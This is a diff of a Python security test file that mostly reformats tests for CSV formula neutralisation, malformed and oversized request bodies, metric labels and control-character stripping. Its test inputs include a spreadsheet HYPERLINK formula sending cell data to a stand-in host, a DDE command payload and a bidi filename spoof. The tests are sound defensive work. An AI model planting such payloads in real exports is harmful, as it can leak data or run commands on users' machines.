@@ -23,13 +23,19 @@ from typing import Any
 import pytest
 import requests
 
-from tests.facade.conftest import Api, eventually
+from tests.conftest import Api, eventually
 from tests.security.conftest import KEY_A, TRANSCRIPT, Facade
 
 pytestmark = pytest.mark.slow
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
-            "=1+2", "@x"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "=1+2",
+    "@x",
+]
 
 
 def run_batch(api: Api, items: list[dict[str, Any]]) -> str:
@@ -57,7 +63,7 @@ def check_cells(rows: list[list[str]]) -> None:
 
 def test_csv_exports_neutralise_formulas(facade: Facade, a: Api, tmp_path: Path) -> None:
     keys = ["-12.5", "+3", "1e-3", "-1-1", "k5", "k6"]
-    items = [{"transcript": TRANSCRIPT, "name": name, "key": key} for name, key in zip(FORMULAS, keys)]
+    items = [{"transcript": TRANSCRIPT, "name": name, "key": key} for name, key in zip(FORMULAS, keys, strict=True)]
     batch = run_batch(a, items)
     answer = a.get(f"/v1/batches/{batch}/insights", headers={"Accept": "text/csv"})
     assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/csv")
@@ -70,19 +76,50 @@ def test_csv_exports_neutralise_formulas(facade: Facade, a: Api, tmp_path: Path)
         writer.writerow(["transcript", "name", "key"])
         for item in items:
             writer.writerow([item["transcript"], item["name"], item["key"]])
-    run = subprocess.run([sys.executable, "-m", "connector.cli", "backfill", str(source), "--url", facade.url,
-                          "--key", KEY_A, "--poll", "0.2"], capture_output=True, text=True, timeout=120,
-                         env={**os.environ, "PYTHONUNBUFFERED": "1"})
+    run = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "connector.cli",
+            "backfill",
+            str(source),
+            "--url",
+            facade.url,
+            "--key",
+            KEY_A,
+            "--poll",
+            "0.2",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env={**os.environ, "PYTHONUNBUFFERED": "1"},
+    )
     assert run.returncode == 0, run.stderr[-2000:]
     written = (tmp_path / "calls.insights.csv").read_text(encoding="utf-8")
     check_cells(list(csv.reader(io.StringIO(written, newline=""))))
 
 
-@pytest.mark.parametrize("value,cell", [
-    ("=1+2", "'=1+2"), ("+1+1", "'+1+1"), ("-1-1", "'-1-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
-    ("\r=1", "'\r=1"), ("-12.5", "-12.5"), ("+3", "+3"), ("1e-3", "1e-3"), ("-0.25", "-0.25"), (-0.25, "-0.25"),
-    ("'=1", "'=1"), ("plain", "plain"), (True, "true"), (None, ""),
-])
+@pytest.mark.parametrize(
+    "value,cell",
+    [
+        ("=1+2", "'=1+2"),
+        ("+1+1", "'+1+1"),
+        ("-1-1", "'-1-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\r=1", "'\r=1"),
+        ("-12.5", "-12.5"),
+        ("+3", "+3"),
+        ("1e-3", "1e-3"),
+        ("-0.25", "-0.25"),
+        (-0.25, "-0.25"),
+        ("'=1", "'=1"),
+        ("plain", "plain"),
+        (True, "true"),
+        (None, ""),
+    ],
+)
 def test_safe_cell(value: Any, cell: str) -> None:
     """The one helper both CSV writers use (tab and carriage return cannot come in over HTTP:
     names and keys are stripped)."""
@@ -93,10 +130,15 @@ def test_safe_cell(value: Any, cell: str) -> None:
 
 def test_deeply_nested_json_is_a_400_without_a_traceback(facade: Facade, a: Api) -> None:
     body = "[" * 100_000
-    for method, path in (("POST", "/v1/conversations"), ("PUT", "/v1/trackers"), ("POST", "/v1/hooks"),
-                         ("POST", "/v1/batches")):
-        response = a.session.request(method, f"{a.url}{path}", data=body, timeout=30,
-                                     headers={**a.headers(), "Content-Type": "application/json"})
+    for method, path in (
+        ("POST", "/v1/conversations"),
+        ("PUT", "/v1/trackers"),
+        ("POST", "/v1/hooks"),
+        ("POST", "/v1/batches"),
+    ):
+        response = a.session.request(
+            method, f"{a.url}{path}", data=body, timeout=30, headers={**a.headers(), "Content-Type": "application/json"}
+        )
         assert response.status_code == 400, (path, response.text)
         assert response.json()["error"]["code"] == "invalid_json", (path, response.text)
     time.sleep(0.3)
@@ -105,13 +147,15 @@ def test_deeply_nested_json_is_a_400_without_a_traceback(facade: Facade, a: Api)
 
 def test_a_body_over_the_limit_gets_a_readable_413(a: Api) -> None:
     body = b'{"transcript": "' + b"a" * (60 * 1024 * 1024) + b'"}'
-    response = requests.post(f"{a.url}/v1/conversations", data=body, timeout=60,
-                             headers={**a.headers(), "Content-Type": "application/json"})
+    response = requests.post(
+        f"{a.url}/v1/conversations", data=body, timeout=60, headers={**a.headers(), "Content-Type": "application/json"}
+    )
     assert response.status_code == 413, response.text
     assert response.json()["error"]["code"] == "payload_too_large"
 
-    request = urllib.request.Request(f"{a.url}/v1/trackers", data=body, method="PUT",
-                                     headers={**a.headers(), "Content-Type": "application/json"})
+    request = urllib.request.Request(
+        f"{a.url}/v1/trackers", data=body, method="PUT", headers={**a.headers(), "Content-Type": "application/json"}
+    )
     with pytest.raises(urllib.error.HTTPError) as caught:
         urllib.request.urlopen(request, timeout=60)
     assert caught.value.code == 413
@@ -123,19 +167,27 @@ def test_a_body_over_the_limit_gets_a_readable_413(a: Api) -> None:
             yield b"a" * (1024 * 1024)
         yield b'"}'
 
-    chunked = requests.post(f"{a.url}/v1/hooks", data=chunks(), timeout=60,
-                            headers={**a.headers(), "Content-Type": "application/json"})
+    chunked = requests.post(
+        f"{a.url}/v1/hooks", data=chunks(), timeout=60, headers={**a.headers(), "Content-Type": "application/json"}
+    )
     assert chunked.status_code == 413, chunked.text
     assert chunked.json()["error"]["code"] == "payload_too_large"
-    small = requests.put(f"{a.url}/v1/trackers", data=iter([b'{"trackers": [], ', b'"dry_run": true}']), timeout=30,
-                         headers={**a.headers(), "Content-Type": "application/json"})
+    small = requests.put(
+        f"{a.url}/v1/trackers",
+        data=iter([b'{"trackers": [], ', b'"dry_run": true}']),
+        timeout=30,
+        headers={**a.headers(), "Content-Type": "application/json"},
+    )
     assert small.status_code == 200, small.text  # a chunked body within the limit is read as usual
     assert a.get("/v1/conversations").status_code == 200  # the server is fine
 
 
 def series(text: str) -> list[str]:
-    return [line for line in text.splitlines() if line.startswith(("connector_requests_total",
-                                                                  "connector_symbl_calls_total"))]
+    return [
+        line
+        for line in text.splitlines()
+        if line.startswith(("connector_requests_total", "connector_symbl_calls_total"))
+    ]
 
 
 def test_metrics_labels_stay_bounded(a: Api) -> None:
@@ -170,8 +222,11 @@ def test_control_and_bidi_characters_never_reach_rendered_text(a: Api) -> None:
     response = a.submit({"messages": messages, "name": "Deal \u202egnp.exe\x00", "wait": 30})
     assert response.status_code == 200, response.text
     flat = response.json()
-    rendered = {"slack_text": flat["slack_text"], "slack_blocks": json.dumps(flat["slack_blocks"], ensure_ascii=False),
-                "crm_note": flat["crm_note"]}
+    rendered = {
+        "slack_text": flat["slack_text"],
+        "slack_blocks": json.dumps(flat["slack_blocks"], ensure_ascii=False),
+        "crm_note": flat["crm_note"],
+    }
     rendered.update({k: v for k, v in flat.items() if isinstance(v, str)})
     for field, text in rendered.items():
         assert not [c for c in UNSAFE if c in text], (field, text)
